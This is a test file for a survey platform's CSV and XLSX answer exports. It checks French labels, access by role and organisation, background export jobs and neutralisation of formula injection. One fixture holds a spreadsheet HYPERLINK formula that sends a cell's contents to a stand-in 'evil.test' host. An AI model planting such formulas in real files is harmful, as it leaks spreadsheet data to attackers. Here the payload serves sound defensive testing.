/**
 * Raw answer-set exports: one row per answer set, one column per question with French titles
 * and labels, the survey version; CSV in the French Excel dialect (read back by our parser
 * and by exceljs), XLSX read back by exceljs, formula injection neutralised, streamed
 * directly for a moderate size and prepared in the background with a progress page beyond.
 */
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import { testEnv } from '../../server/config';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { DIRECT_EXPORT_MAX_ROWS } from '../../server/reports/export.routes';
import { JobRunner } from '../../server/jobs/runner';
import { fileChunks, getJob, planExport, startExport } from '../../server/reports/export-jobs';
import { jobs } from '../../server/jobs/registry';
import { responsesExport } from '../../server/reports/responses.export';
import { getSurvey } from '../../server/surveys/surveys.service';
import { createTestContext, type TestContext } from '../helpers/app';
import { describeWithLibreOffice, readXlsxWithLibreOffice } from '../helpers/libreoffice';
import { createOrg, createSite, createToken, createUser, loggedIn, type Browser } from '../helpers/factories';
import { SEED_2018, SURVEY, insertAnswerSets, parseFrenchCsv, seedAnswerSets } from './reports.fixtures';

let t: TestContext;
let org: { id: string; code: string };
let referent: Browser;
let token: string;
const INJECTION = '=HYPERLINK("http://evil.test/?"&A1,"Cliquez ici")';

const binary = (r: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  const stream = r as unknown as NodeJS.ReadableStream;
  stream.on('data', (c: Buffer) => chunks.push(c));
  stream.on('end', () => cb(null, Buffer.concat(chunks)));
};

beforeAll(async () => {
  t = await createTestContext();
  t.clock.set('2019-09-09T08:00:00Z');
  org = await createOrg(t.deps);
  const site = await createSite(t.deps, org.id, 'Accueil général');
  await insertAnswerSets(t.deps, org.id, seedAnswerSets({
    siteId: site.id, start: new Date('2018-10-01T07:00:00Z'),
    comment: (i) => (i === 0 ? INJECTION : i === 1 ? '+33 6 00 00 00 00; "rappelez-moi"\nmerci' : i === 2 ? '@SUM(1+1)' : i === 3 ? '-2+3' : undefined),
  }));
  referent = await loggedIn(t.app, await createUser(t.deps, org.id, 'referent'));
  token = await createToken(t.deps, org.id, 'referent');
});
afterAll(() => t?.close());

const query = `kind=reponses&survey=${SURVEY}&from=2018-10-01&to=2018-11-30`;

describe('when the referent exports the answer sets as CSV', () => {
  let rows: string[][];
  beforeAll(async () => {
    await referent.page('/rapports/exports');
    const res = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=csv`).buffer(true).parse(binary);
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toContain('reponses-satisfaction-accueil-2018-10-01-2018-11-30.csv');
    expect(res.headers['x-total-rows']).toBe('107');
    const text = (res.body as Buffer).toString('utf8');
    expect(text).toContain('\r\n');
    rows = parseFrenchCsv(text);
  });

  it('then there is one row per answer set and one column per question, titled in French, with the survey version', () => {
    expect(rows).toHaveLength(108);
    const header = rows[0];
    expect(header.slice(0, 7)).toEqual(['Identifiant', 'Questionnaire', 'Version du questionnaire', 'Site', 'Canal', 'Langue', 'Date de fin']);
    for (const [, label] of SEED_2018) expect(header).toContain(label);
    expect(header.some((h) => h.startsWith('Avez-vous un commentaire ou une suggestion'))).toBe(true);
    expect(new Set(rows.slice(1).map((r) => r[2]))).toEqual(new Set([getSurvey(t.deps, SURVEY)!.version]));
    expect(rows[1].slice(3, 7)).toEqual(['Accueil général', 'Borne', 'fr', '01/10/2018 09:00']);
  });

  it('then answers read as French labels, and the counts per label match the report', () => {
    const col = rows[0].indexOf('Courtoisie des agents d\'accueil');
    const values = rows.slice(1).map((r) => r[col]);
    const satisfied = values.filter((v) => v === 'Très satisfait' || v === 'Satisfait').length;
    expect(satisfied).toBe(96);
    expect(values.filter((v) => v === 'Sans avis / non concerné' || v.startsWith('Sans avis')).length).toBe(7);
  });

  it('then cells that would run as formulas are neutralised, and separators, quotes and line breaks survive', () => {
    const col = rows[0].findIndex((h) => h.startsWith('Avez-vous un commentaire'));
    expect(rows[1][col]).toBe(`'${INJECTION}`);
    expect(rows[2][col]).toBe('\'+33 6 00 00 00 00; "rappelez-moi"\nmerci');
    expect(rows[3][col]).toBe("'@SUM(1+1)");
    expect(rows[4][col]).toBe("'-2+3");
  });

  it('then exceljs reads the same file back with ; as separator', async () => {
    const res = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=csv`).buffer(true).parse(binary);
    const wb = new ExcelJS.Workbook();
    const ws = await wb.csv.read(Readable.from([(res.body as Buffer).toString('utf8').slice(1)]), { parserOptions: { delimiter: ';' }, map: (v: unknown) => v } as never);
    expect(ws.rowCount).toBe(108);
    expect(ws.getRow(1).getCell(9).value).toBe('Courtoisie des agents d\'accueil');
    expect(ws.getRow(2).getCell(3).value).toBe(getSurvey(t.deps, SURVEY)!.version);
  });
});

describe('when the referent exports the answer sets as XLSX', () => {
  it('then exceljs opens it with the same values, dates as dates in Paris time, formula-like text as plain text cells', async () => {
    const res = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=xlsx`).buffer(true).parse(binary);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as ArrayBuffer);
    const ws = wb.getWorksheet('Réponses')!;
    expect(ws.rowCount).toBe(108);
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const comment = header.findIndex((h) => String(h).startsWith('Avez-vous un commentaire')) + 1;
    // A text cell, never a formula, and without the CSV's visible apostrophe.
    expect(ws.getRow(2).getCell(comment).type).toBe(ExcelJS.ValueType.String);
    expect(ws.getRow(2).getCell(comment).value).toBe(INJECTION);
    // 07:00 UTC is 09:00 in Paris (summer time): the cell holds the Paris wall clock, like the CSV.
    expect(ws.getRow(2).getCell(7).value).toEqual(new Date('2018-10-01T09:00:00Z'));
    const courtesy = header.indexOf('Courtoisie des agents d\'accueil') + 1;
    let satisfied = 0;
    ws.eachRow((row, i) => {
      if (i > 1 && ['Très satisfait', 'Satisfait'].includes(String(row.getCell(courtesy).value))) satisfied++;
    });
    expect(satisfied).toBe(96);
  });
});

describeWithLibreOffice('when LibreOffice reads the XLSX export back', () => {
  it('then it shows the same Paris times as the CSV and the formula-like comments as typed, unevaluated', async () => {
    const xlsx = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=xlsx`).buffer(true).parse(binary);
    const fromLibreOffice = readXlsxWithLibreOffice(xlsx.body as Buffer);
    const csv = await referent.agent.get(`/rapports/exports/telecharger?${query}&format=csv`).buffer(true).parse(binary);
    const fromCsv = parseFrenchCsv((csv.body as Buffer).toString('utf8'));
    const when = fromCsv[0].indexOf('Date de fin');
    const comment = fromCsv[0].findIndex((h) => h.startsWith('Avez-vous un commentaire'));
    expect(fromLibreOffice.length).toBe(fromCsv.length);
    for (let i = 1; i < fromCsv.length; i++) expect(fromLibreOffice[i][when]).toBe(fromCsv[i][when]);
    expect(fromLibreOffice[1][when]).toBe('01/10/2018 09:00');
    expect(fromLibreOffice[1][comment]).toBe(INJECTION);
    expect(fromLibreOffice[3][comment]).toBe('@SUM(1+1)');
    expect(fromLibreOffice[4][comment]).toBe('-2+3');
  }, 180_000);
});

describe('exports through the API and by role', () => {
  it('when a referent token asks, then the CSV streams', async () => {
    const res = await request(t.app).get(`/api/v1/exports/reponses.csv?survey=${SURVEY}&from=2018-10-01&to=2018-11-30`).set('Authorization', `Bearer ${token}`).buffer(true).parse(binary);
    expect(res.status).toBe(200);
    expect(parseFrenchCsv((res.body as Buffer).toString('utf8'))).toHaveLength(108);
  });

  it('when the query is invalid, then the API answers 422 with the reasons', async () => {
    const res = await request(t.app).get('/api/v1/exports/reponses.csv?from=2018-12-01&to=2018-10-01').set('Authorization', `Bearer ${token}`);
    expect(res.status).toBe(422);
    expect(res.body.error.details).toHaveProperty('survey');
  });

  it('when a viewer or another organisation asks, then there is nothing to export for them', async () => {
    const viewer = await createToken(t.deps, org.id, 'viewer');
    expect((await request(t.app).get(`/api/v1/exports/reponses.csv?survey=${SURVEY}&from=2018-10-01&to=2018-11-30`).set('Authorization', `Bearer ${viewer}`)).status).toBe(404);
    const other = await createOrg(t.deps);
    const otherToken = await createToken(t.deps, other.id, 'referent');
    const res = await request(t.app).get(`/api/v1/exports/reponses.csv?survey=${SURVEY}&from=2018-10-01&to=2018-11-30`).set('Authorization', `Bearer ${otherToken}`).buffer(true).parse(binary);
    expect(parseFrenchCsv((res.body as Buffer).toString('utf8'))).toHaveLength(1);
  });

  it.each([
    ['courriels', ['Campagne', 'Service', 'Adresse écrite', 'Envoyé le', 'Distribué', 'Message reçu le', 'Classe']],
    ['appels', ['Enquête', 'Période de l’enquête', 'Numéro appelé', 'Type de numéro', 'Appel abouti', 'Note de forme (sur 10)', 'Note de fond (sur 10)']],
  ])('when the %s export has nothing in the period, then the API gives a header line in French and the form says there is nothing', async (kind, first) => {
    await referent.page('/rapports/exports');
    const form = await referent.agent.get(`/rapports/exports/telecharger?kind=${kind}&from=2018-10-01&to=2018-11-30&format=csv`).set('Accept', 'text/html');
    expect(form.status).toBe(422);
    expect(form.text).toMatch(/Aucune (campagne|enquête)[^<]*sur cette période/);
    expect(form.text).toContain('value="2018-10-01"');
    const res = await request(t.app).get(`/api/v1/exports/${kind}.csv?from=2018-10-01&to=2018-11-30`).set('Authorization', `Bearer ${token}`).buffer(true).parse(binary);
    expect(res.status).toBe(200);
    const rows = parseFrenchCsv((res.body as Buffer).toString('utf8'));
    expect(rows).toHaveLength(1);
    expect(rows[0].slice(0, first.length)).toEqual(first);
    expect(rows[0].join(' ')).not.toMatch(/Objet|Corps|évaluateur/i);
  });
});

describe('the export form', () => {
  it('when the last full quarter has no answer, then it proposes the quarter of the last answers and their survey', async () => {
    const page = await referent.page('/rapports/exports');
    expect(page.status).toBe(200);
    expect(page.text).toContain('id="f-from" name="from" type="date" value="2018-10-01"');
    expect(page.text).toContain('id="f-to" name="to" type="date" value="2018-12-31"');
    expect(page.text).toMatch(new RegExp(`<option value="${SURVEY}"\\s+selected`));
  });

  it('when the chosen period has no answer, then the form comes back saying so instead of an empty file', async () => {
    const res = await referent.agent.get(`/rapports/exports/telecharger?kind=reponses&survey=${SURVEY}&from=2019-04-01&to=2019-06-30&format=xlsx`).set('Accept', 'text/html');
    expect(res.status).toBe(422);
    expect(res.headers['content-type']).toContain('text/html');
    expect(res.text).toContain('Aucune réponse à ce questionnaire sur cette période');
  });
});

describe('when an export is larger than a direct download', () => {
  it('then it is prepared in the background with a progress page, then downloaded whole', async () => {
    const big = await createOrg(t.deps);
    const b = await loggedIn(t.app, await createUser(t.deps, big.id, 'referent'));
    const n = DIRECT_EXPORT_MAX_ROWS + 1;
    const version = getSurvey(t.deps, SURVEY)!.version;
    await t.deps.db.execute(sql`
      insert into responses (id, org_id, survey_id, survey_version, site_id, channel, locale, answers, completed_at, received_at)
      select gen_random_uuid(), ${big.id}, ${SURVEY}, ${version}, null, 'kiosk', 'fr',
             jsonb_build_object('avis_global', 'tres_bien', 'courtoisie', case when g % 4 = 0 then 'peu_satisfait' else 'satisfait' end, 'commentaire', '=1+' || g),
             timestamptz '2018-10-01 08:00+02' + g * interval '2 minutes', now()
      from generate_series(1, ${n}) g`);
    await b.page('/rapports/exports');
    const start = await b.page(`/rapports/exports/telecharger?${query}&format=csv`);
    expect(start.status).toBe(303);
    const progressUrl = start.headers.location;
    // Until a worker takes it, the export waits, and the page says so.
    let page = await b.page(progressUrl);
    expect(page.status).toBe(200);
    expect(page.text).toContain('0 lignes sur 20\u202f001');
    expect(page.headers.refresh).toBe('2');
    // The worker prepares it into the database (any web instance then serves it).
    expect(await new JobRunner(t.deps, jobs).drain()).toBeGreaterThanOrEqual(1);
    page = await b.page(progressUrl);
    expect(page.text).toContain('L’export est prêt : 20\u202f001 lignes.');
    // Another organisation cannot follow it.
    expect((await referent.page(progressUrl)).status).toBe(404);
    const file = await b.agent.get(`${progressUrl}/fichier`).buffer(true).parse(binary);
    expect(file.status).toBe(200);
    const rows = parseFrenchCsv((file.body as Buffer).toString('utf8'));
    expect(rows).toHaveLength(n + 1);
    const comment = rows[0].findIndex((h) => h.startsWith('Avez-vous un commentaire'));
    expect(rows.slice(1).every((r) => r[comment].startsWith("'=1+"))).toBe(true);
    // Keyset pages: every answer set exactly once.
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(n);
  }, 60_000);
});

describe('when the worker preparing an export died half-way', () => {
  it('then the next run starts the file again from nothing and it comes out whole, once', async () => {
    const q = { kind: 'reponses' as const, survey: SURVEY, from: '2018-10-01', to: '2018-11-30', format: 'csv' as const };
    const plan = await planExport(t.deps, org.id, q);
    const job = await startExport(t.deps, plan, q, { orgId: org.id, userId: null });
    // What a dead run leaves: the job running under its token, and pieces of a file.
    await t.deps.db.execute(sql`update export_jobs set status = 'running', run_token = 'dead', written = 7 where id = ${job.id}`);
    await t.deps.db.execute(sql`insert into export_chunks (export_id, seq, data) values (${job.id}, 0, ${Buffer.from('garbage')}), (${job.id}, 3, ${Buffer.from('more')})`);
    expect(await new JobRunner(t.deps, jobs).drain()).toBeGreaterThanOrEqual(1);
    const done = (await getJob(t.deps, org.id, job.id))!;
    expect(done.status).toBe('done');
    const pieces: Buffer[] = [];
    for await (const c of fileChunks(t.deps, done)) pieces.push(c);
    const file = Buffer.concat(pieces);
    expect(file.length).toBe(done.bytes);
    expect(file.toString('utf8')).not.toMatch(/garbage|more$/);
    const rows = parseFrenchCsv(file.toString('utf8'));
    expect(rows).toHaveLength(plan.total! + 1);
    expect(new Set(rows.slice(1).map((r) => r[0])).size).toBe(plan.total);
    // Another organisation does not find it.
    const other = await createOrg(t.deps);
    expect(await getJob(t.deps, other.id, job.id)).toBeUndefined();
  });
});

describe('when some answer sets of the period were given against an older version of the survey', () => {
  it('then the questions only that version had get their own column, and a version nobody answered in the period adds none', async () => {
    const other = await createOrg(t.deps, 'Préfecture aux versions');
    const current = getSurvey(t.deps, SURVEY)!;
    const withQuestion = (name: string, title: string) => {
      const json = structuredClone(current.json) as { pages: { elements: unknown[] }[] };
      json.pages[json.pages.length - 1].elements.push({ type: 'radiogroup', name, title, choices: [{ value: 'oui', text: 'Oui' }, { value: 'non', text: 'Non' }] });
      return json;
    };
    await t.deps.db.execute(sql`
      insert into survey_versions (survey_id, version, definition, first_seen_at) values
        (${SURVEY}, 'aaaa0000aaaa0000', ${JSON.stringify(withQuestion('question_retiree', 'Question retirée'))}::jsonb, '2018-01-01T00:00:00Z'),
        (${SURVEY}, 'bbbb0000bbbb0000', ${JSON.stringify(withQuestion('question_oubliee', 'Question oubliée'))}::jsonb, '2018-01-01T00:00:00Z')`);
    await t.deps.db.execute(sql`
      insert into responses (id, org_id, survey_id, survey_version, site_id, channel, locale, answers, completed_at, received_at) values
        (gen_random_uuid(), ${other.id}, ${SURVEY}, 'aaaa0000aaaa0000', null, 'kiosk', 'fr', '{"avis_global":"moyen","question_retiree":"oui"}', '2018-10-02T08:00:00Z', '2018-10-02T08:00:00Z'),
        (gen_random_uuid(), ${other.id}, ${SURVEY}, ${current.version}, null, 'kiosk', 'fr', '{"avis_global":"tres_bien"}', '2018-10-03T08:00:00Z', '2018-10-03T08:00:00Z')`);
    const plan = await responsesExport(t.deps, other.id, SURVEY, { from: '2018-10-01', to: '2018-11-30' });
    const headers = plan.columns.map((c) => c.header);
    expect(headers).toContain('Question retirée');
    expect(headers).not.toContain('Question oubliée');
    const rows: unknown[][] = [];
    for await (const batch of plan.batches()) rows.push(...batch);
    expect(rows).toHaveLength(2);
    const column = headers.indexOf('Question retirée');
    expect(rows.map((r) => r[column])).toEqual(['Oui', null]);
  });
});
